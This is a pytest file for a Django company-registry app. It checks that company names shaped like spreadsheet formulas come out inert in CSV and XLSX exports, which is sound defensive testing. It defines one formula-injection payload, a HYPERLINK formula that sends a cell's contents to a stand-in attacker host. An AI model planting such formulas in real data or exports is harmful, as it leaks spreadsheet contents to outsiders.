"""Hostile company names, imported through the company import page, come out inert in exports."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from dipps.companies.models import Company
from dipps.core.models import ExchangeRate

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COLUMNS = [
    "orgnr",
    "name",
    "sni",
    "municipality_code",
    "fiscal_year",
    "headcount",
    "turnover_sek",
    "balance_sheet_sek",
]


@pytest.fixture
def imported(client_as, world):
    """Two firms named like formulas, imported as a coach would: upload, then confirm."""
    ExchangeRate.objects.create(currency="EUR", valid_from="2023-01-01", sek_per_unit=Decimal(11))
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(COLUMNS)
    writer.writerow(["556036-0793", HYPERLINK, "16.101", "2380", "2024", "18", "245000", "1"])
    writer.writerow(["5565475489", "-12", "28.300", "2281", "2024", "60", "980000", "1"])
    client = client_as("manager")
    upload = SimpleUploadedFile("hostile.csv", buf.getvalue().encode(), "text/csv")
    with translation.override("en"):
        preview = client.post("/companies/import/", {"file": upload})
        assert preview.context["parsed"].errors == []
        client.post("/companies/import/confirm/")
    assert set(
        Company.objects.filter(orgnr__in=["5560360793", "5565475489"]).values_list(
            "name", flat=True
        )
    ) == {HYPERLINK, "-12"}
    return client


def _csv_rows(client, query):
    response = client.get(f"/companies/export.csv?q={query}")  # Swedish: `;` separates
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _xlsx_row(client, query):
    response = client.get(f"/companies/export.xlsx?q={query}")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws.max_row == 2
    return ws[2]


def test_a_formula_name_is_prefixed_with_an_apostrophe_in_the_csv(imported):
    rows = _csv_rows(imported, "556036")
    assert rows[1][:2] == ["556036-0793", "'" + HYPERLINK]


def test_a_formula_name_is_a_plain_string_cell_in_the_xlsx(imported):
    name = _xlsx_row(imported, "556036")[1]
    assert name.value == HYPERLINK
    assert name.data_type == "s"
    assert name.quotePrefix is True


def test_a_name_that_looks_like_a_negative_number_stays_text(imported):
    assert _csv_rows(imported, "556547")[1][:2] == ["556547-5489", "'-12"]
    name = _xlsx_row(imported, "556547")[1]
    assert (name.value, name.data_type, name.quotePrefix) == ("-12", "s", True)
